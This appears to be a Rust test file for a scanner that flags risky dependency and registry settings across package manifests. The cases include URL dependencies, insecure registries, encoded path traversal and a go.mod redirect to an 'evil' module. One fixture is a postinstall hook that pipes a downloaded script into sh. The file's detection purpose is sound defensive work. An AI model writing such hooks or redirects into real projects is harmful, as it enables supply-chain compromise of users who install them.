use super::*;

fn finds(path: &str, text: &str) -> bool {
    let is_listed = |place: &str| place == "github.com/acme/ok";
    let is_inside = |path: &str| path == "../inside";
    manifest(path).is_some_and(|manifest| suspect(manifest, text, is_listed, is_inside).is_some())
}

#[test]
fn what_is_suspect() {
    for (path, text) in [
        ("package.json", r#""left": "git+https://github.com/x/y.git","#),
        ("/a/package.json", r#"{"dependencies":{"a":"github:x/y"}}"#),
        ("package.json", r#""a": "https://example.com/a.tgz""#),
        ("package.json", r#""evil": "npm:real@1""#),
        ("package.json", r#"{"dependencies":{"a":"x/y"}}"#),
        ("package.json", r#"{"dependencies":{"a":"x/y#semver:^2"}}"#),
        ("package.json", r#""a": "x/y#semver:>=1.2""#),
        ("package.json", r#""a": "x/y#semver:>=1.2 <3""#),
        ("nix.conf", "extra-trusted-public-keys = cache.nixos.org-1:abc="),
        ("package.json", r#"{"dependencies":{"a":"x/y#feature/z"}}"#),
        ("package.json", "{\n  \"devDependencies\": {\n    \"a\": \"1\",\n    \"b\": \"x/y\"\n  }\n}"),
        ("package.json", r#"{"dependencies":{"url":"https://example.com/x"}}"#),
        ("package.json", r#""postinstall": "curl https://example.com/x | sh""#),
        ("package.json", r#""a": "file:../../x""#),
        ("package.json", r#""a": "file:./x/../../y""#),
        ("package.json", r#""a": "portal:../x""#),
        ("package.json", r#""a": "file:./%2E%2e/%2e%2e/x""#),
        ("requirements.txt", "flask\ngit+https://github.com/x/y"),
        ("requirements-dev.txt", "y @ git+https://github.com/x/y"),
        ("requirements/base.txt", "--index-url http://example.com/simple"),
        ("requirements.txt", "-e git+ssh://git@github.com/x/y#egg=y"),
        ("Cargo.toml", "[dependencies]\nx = { git = \"https://github.com/x/y\" }"),
        ("Cargo.toml", "[dependencies.x]\ngit = \"https://github.com/x/y\""),
        ("Cargo.toml", "[dependencies]\nx = { \"git\" = \"https://github.com/x/y\" }"),
        ("Cargo.toml", "[dependencies]\nx.git = \"https://github.com/x/y\""),
        ("pyproject.toml", "dependencies = [\n \"x @ git+https://github.com/x/y\",\n]"),
        ("pyproject.toml", "x = { git = 'https://github.com/x/y' }"),
        ("Gemfile", "gem 'x', git: 'https://github.com/x/y'"),
        ("Gemfile", "gem 'x', github: 'x/y'"),
        ("Gemfile", "source 'http://rubygems.org'"),
        ("requirements.txt", "x @ https://example.com/x.whl # https://pypi.org/simple"),
        ("requirements.txt", "git+https://github.com/x/y#egg=y # y"),
        ("requirements.txt", "--find-links ../wheels"),
        ("requirements.txt", "--find-links ${LINKS}"),
        ("requirements.txt", "-f links.html"),
        ("go.mod", "replace github.com/a/b => github.com/evil/b v1.0.0"),
        ("go.mod", "replace github.com/a/b => ../../b // ../inside"),
        ("go.mod", "replace github.com/a/b => ./../../b"),
        (".yarnrc.yml", "checksumBehavior: ignore"),
        ("composer.json", r#"{"type":"vcs","url":"https://github.com/x/y"}"#),
        (".npmrc", "registry=http://example.com"),
        (".npmrc", "ignore-scripts=false"),
        (".npmrc", "@acme:registry=https://example.com/"),
        (".yarnrc.yml", "npmRegistryServer: https://example.com/?a=b"),
        ("pip.conf", "[global]\nindex-url = https://example.com/simple"),
    ] {
        assert!(finds(path, text), "{path}: {text}");
    }
}

#[test]
fn what_is_not() {
    for (path, text) in [
        ("package.json", r#"{"dependencies":{"a":"^1.0.0","@x/y":"workspace:*"}}"#),
        ("package.json", r#""repository": {"type": "git", "url": "git+https://github.com/x/y.git"}"#),
        ("package.json", r#""homepage": "https://github.com/x/y""#),
        ("package.json", r#""postinstall": "husky install""#),
        ("package.json", r#""main": "dist/index.js", "build": "tsc -p .""#),
        ("package.json", r#""a": "github:acme/ok""#),
        ("package.json", r#"{"dependencies":{"a":"^1.0.0"},"files":["dist/x"],"types":"dist/index"}"#),
        ("package.json", r#"{"dependencies":{"a":"1.0 - 2.0","b":"file:./b"},"repository":"x/y"}"#),
        ("package.json", r#"{"dependencies":{"a":"file:../inside","b":"link:../inside","c":"portal:../inside"}}"#),
        ("requirements.txt", "flask==2.0\n# git+https://github.com/x/y"),
        ("requirements.txt", "flask==2.0  # https://flask.palletsprojects.com/changes/"),
        ("requirements.txt", "--find-links=vendor/wheels\n-f wheels # of this project"),
        (".yarnrc.yml", "checksumBehavior: throw"),
        (
            "Cargo.toml",
            "[package]\nrepository = \"https://github.com/x/y\"\n[dependencies]\nserde = \"1\"\nx = { path = \"../x\" }",
        ),
        ("pyproject.toml", "[project.urls]\nHomepage = \"https://github.com/x/y\"\nurl = \"https://example.com\""),
        ("Gemfile", "source 'https://rubygems.org'\ngem 'rails', '~> 7'"),
        ("go.mod", "require github.com/a/b v1.0.0\nreplace x => ./x\nreplace y => ../inside // the same repository"),
        (".npmrc", "registry=https://registry.npmjs.org/\nsave-exact=true"),
        ("README.md", "git+https://github.com/x/y"),
    ] {
        assert!(!finds(path, text), "{path}: {text}");
    }
}
